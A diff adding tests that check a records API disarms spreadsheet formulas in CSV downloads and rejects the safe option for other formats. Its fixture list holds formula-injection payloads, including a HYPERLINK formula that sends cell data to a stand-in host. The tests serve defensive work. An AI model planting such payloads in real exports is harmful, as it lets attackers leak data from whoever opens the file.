@@ -2,6 +2,7 @@ import { request } from "node:http";
 import { expect } from "chai";
 import type { Run } from "../../ledger/run.ts";
 import { rowColumns } from "../../ledger/run-rows.ts";
+import { disarmFormulas } from "../../records/spreadsheet-cells.ts";
 import { userType } from "../../records/user.ts";
 import { draftOf, range, recordsOf, storeNext } from "../setup/batches.ts";
 import { eventually } from "../setup/eventually.ts";
@@ -78,6 +79,42 @@ describe("GET /api/runs/:id/records", () => {
     });
   }
 
+  it("gives CSV in which no cell begins a formula, where it is asked for", async () => {
+    const { run: hostile } = await plannedRun(web().pool, {
+      count: hostileTexts.length,
+      chunkSize: hostileTexts.length,
+      fields: ["name", "job"],
+    });
+    const texts = hostileTexts.map((name, seq) => JSON.stringify({ name, job: hostileTexts.at(-1 - seq) }));
+    await storeNext(
+      web().pool,
+      texts.map((text, seq) => draftOf(hostile.id, seq, text)),
+    );
+    const download = async (query: string): Promise<string[][]> =>
+      readCsv(await (await web().get(`/api/runs/${hostile.id}/records?${query}`)).text());
+    const cells = await download("format=csv");
+    expect(cells.slice(1).map(([, name]) => name)).to.deep.equal(hostileTexts);
+    const safe = await download("format=csv&safe=spreadsheet");
+    expect(safe).to.deep.equal(cells.map((line) => line.map(disarmFormulas)));
+    expect(safe.flat().filter((cell) => /^ *[=+@\-\t\r\n＝＋－＠]/.test(cell))).to.deep.equal([]);
+  });
+
+  it("is safe for spreadsheets in CSV only", async () => {
+    for (const format of ["ndjson", "csv"] as const) {
+      const response = await web().get(`${path(format)}&safe=yes`);
+      expect(badFields(await expectProblem(response, "invalid-request"))).to.deep.equal(["safe"]);
+    }
+    const problem = await expectProblem(
+      await web().get(`${path("ndjson")}&safe=spreadsheet`),
+      "invalid-request",
+    );
+    expect(problem.detail).to.equal("safe goes with CSV only; ask for it with format=csv.");
+    await expectProblem(await web().get(`${path()}?safe=spreadsheet`), "invalid-request");
+    const byAccept = await web().get(`${path()}?safe=spreadsheet`, { Accept: "text/csv" });
+    expect(byAccept.status).to.equal(200);
+    await byAccept.body?.cancel();
+  });
+
   it("of a run without rows is only the head", async () => {
     const { run: empty } = await plannedRun(web().pool, { fields: ["country"] });
     expect(await (await web().get(`/api/runs/${empty.id}/records?format=csv`)).text()).to.equal(
@@ -134,6 +171,28 @@ describe("GET /api/runs/:id/records", () => {
     expect((await web().post(path())).status).to.equal(405);
   });
 });
+
+/** Cells that a spreadsheet would calculate, and some that it would not. */
+const hostileTexts = [
+  '=HYPERLINK("http://example.org?"&A1,"Ann")',
+  "+351912345678",
+  "-1+1",
+  "@SUM(A1)",
+  "  =1+1",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠A1",
+  "Ann;=1+1",
+  'Ann"; =1+1',
+  "a\n-b\tc",
+  "Ann-Marie O'Neil = 1 + 1",
+  "'=quoted",
+  "é=1",
+];
 
 /** CSV by RFC 4180, as far as PostgreSQL writes it. */
 function readCsv(text: string): string[][] {
